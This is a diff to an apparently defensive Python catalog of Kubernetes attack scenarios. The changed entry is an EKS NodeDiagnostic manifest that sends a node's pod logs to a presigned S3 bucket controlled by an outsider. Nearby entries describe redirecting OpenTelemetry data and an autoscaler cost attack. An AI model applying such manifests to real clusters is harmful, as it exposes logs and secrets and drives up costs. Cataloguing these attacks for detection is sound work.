@@ -161,7 +161,8 @@ ATTACKS = (
         "componentsAllowed": {"exporters": ["otlphttp"], "receivers": ["otlp"], "processors": ["batch"]}}),),
         "critical", "the stranger says where traces and logs go (OpenTelemetry Operator, OpAMPBridge)"),
     Attack("a machine uploads its logs to whoever signed an address", RES, (
-        k8s("eks.amazonaws.com/v1alpha1:NodeDiagnostic", {"metadata": {"name": "i-0123456789abcdef0", "labels": TAGS}, "spec": {"logCapture": {
+        k8s("eks.amazonaws.com/v1alpha1:NodeDiagnostic", {
+            "metadata": {"name": "i-0123456789abcdef0", "labels": TAGS}, "spec": {"logCapture": {
             "destination": f"https://collector-inbox.s3.{R}.amazonaws.com/node?X-Amz-Signature=0123"}}}),),
         "critical", "logs of every pod of the machine are the stranger's (Amazon EKS, 'Retrieve node logs')"),
     Attack("an autoscaler starts two thousand pods when it knows nothing", MONEY, _scaled(
